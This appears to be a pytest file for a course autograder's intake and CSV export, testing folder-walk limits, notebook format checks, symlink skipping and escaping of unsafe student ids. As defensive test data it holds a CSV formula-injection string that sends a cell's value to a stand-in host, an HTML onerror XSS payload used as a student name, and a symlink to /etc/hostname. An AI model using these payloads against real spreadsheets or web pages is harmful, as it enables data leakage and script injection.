"""What the grader takes from a student's folder (autograder/intake.py), and what it writes of a
student's id: bounded walks, notebooks in JupyterLab's format only, ids as text. In milliseconds,
without grading."""
import csv
import json
import os

import nbformat
import pytest

from autograder import intake
from autograder.export import _cell

NB = "logistic_regression.ipynb"


def _notebook(folder, name=NB, version=4):
    nb = nbformat.v4.new_notebook() if version == 4 else {"nbformat": version, "nbformat_minor": 0,
                                                          "metadata": {}, "worksheets": []}
    with open(os.path.join(folder, name), "w") as f:
        json.dump(nb, f)


def test_a_folder_nested_past_the_depth_limit_is_left_out_and_the_rest_is_taken(tmp_path):
    """1,200 nested folders (a path of 2,400 characters) once crashed the whole run with a
    RecursionError; now the part below MAX_DEPTH is left out and named (600 here: pytest's own
    clean-up of tmp_path recurses too)."""
    _notebook(tmp_path)
    path = str(tmp_path)
    for _ in range(600):
        path = os.path.join(path, "a")
        os.mkdir(path)
    files, left_out = intake.take(str(tmp_path), first=[NB])
    assert list(files) == [NB]
    deep = os.path.join(*["a"] * intake.MAX_DEPTH)
    assert left_out == [(deep, f"a folder deeper than {intake.MAX_DEPTH} levels")]


def test_files_past_the_entry_limit_are_left_out_but_the_notebook_is_taken_first(tmp_path):
    """nbgrader's file handling is quadratic in the number of files: 20,000 empty files held a
    worker for its whole deadline. Past MAX_ENTRIES the rest is left out, the notebook kept."""
    n = intake.MAX_ENTRIES + 50
    for i in range(n):
        (tmp_path / f"{i:05d}.txt").write_bytes(b"")
    _notebook(tmp_path)
    files, left_out = intake.take(str(tmp_path), first=[NB])
    assert NB in files and len(files) == intake.MAX_ENTRIES
    assert len(left_out) == 1 and left_out[0][1].endswith("and 50 more here")


@pytest.mark.parametrize("version", [3, 2])
def test_a_notebook_in_an_older_format_is_left_out_with_the_fix(tmp_path, version):
    """nbformat's upgrade from format 3 builds '#' * level for a heading: 185 bytes took 3 GB."""
    _notebook(tmp_path, version=version)
    files, left_out = intake.take(str(tmp_path), first=[NB])
    assert files == {} and left_out == [(NB, "not a format-4 notebook: open and save it in JupyterLab")]


def test_a_notebook_that_is_not_json_is_taken_for_nbgrader_to_refuse(tmp_path):
    (tmp_path / NB).write_text("{not json")
    files, left_out = intake.take(str(tmp_path), first=[NB])
    assert files == {NB: b"{not json"} and left_out == []


def test_links_are_left_out_and_never_read(tmp_path):
    _notebook(tmp_path)
    (tmp_path / "secret.txt").symlink_to("/etc/hostname")
    (tmp_path / "loop").symlink_to(tmp_path)
    files, left_out = intake.take(str(tmp_path), first=[NB])
    assert list(files) == [NB] and left_out == [("loop", "a symbolic link"), ("secret.txt", "a symbolic link")]


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example?"&D3,"x")', "+1+1", "-2+3", "@SUM(A1)",
                                  "\tx", "\rx"])
def test_text_a_spreadsheet_would_run_is_written_as_text(tmp_path, text):
    """OWASP's advice for CSV: a leading apostrophe, which spreadsheets show as text. The csv
    module reads the field back with the id after the apostrophe."""
    path = tmp_path / "grades.csv"
    with open(path, "w", newline="") as f:
        csv.writer(f).writerow([_cell(text), _cell(15.0), _cell(None), _cell("alice")])
    with open(path, newline="") as f:
        assert next(csv.reader(f)) == ["'" + text, "15.0", "", "alice"]


@pytest.mark.sandbox
def test_a_student_folder_name_that_is_not_utf8_fails_alone_with_the_reason(tmp_path):
    """Such a name cannot go into the gradebook or grades.csv: it once crashed the run after
    grading the whole class. Now that student has an outcome saying why, and the run ends."""
    from autograder import course

    folder = os.path.join(os.fsencode(tmp_path / "submitted"), b"stud\xff", b"01-logistic-regression")
    os.makedirs(folder)
    report = course.grade(str(tmp_path / "submitted"), str(tmp_path / "out"))
    (outcome,) = report.outcomes
    assert outcome.student == "stud\\xff" and "not valid UTF-8" in outcome.error
    assert "stud\\xff" in report.table() and (tmp_path / "out" / "grades.csv").exists()


@pytest.mark.sandbox
def test_a_student_id_the_formgrader_would_show_as_html_is_refused_and_kept_out_of_the_gradebook(tmp_path):
    """nbgrader's formgrader prints ids into its pages and scripts unescaped: such an id would run
    script in the instructor's browser. That student fails alone, named in the report only."""
    from nbgrader.api import Gradebook, MissingEntry

    from autograder import course

    student = "<img src=x onerror=alert(1)>"
    os.makedirs(tmp_path / "submitted" / student / "01-logistic-regression")
    report = course.grade(str(tmp_path / "submitted"), str(tmp_path / "out"))
    (outcome,) = report.outcomes
    assert outcome.student == student and "formgrader would show as HTML (< >)" in outcome.error
    with Gradebook(f"sqlite:///{tmp_path / 'out' / 'gradebook.db'}") as gb:
        with pytest.raises(MissingEntry):
            gb.find_student(student)
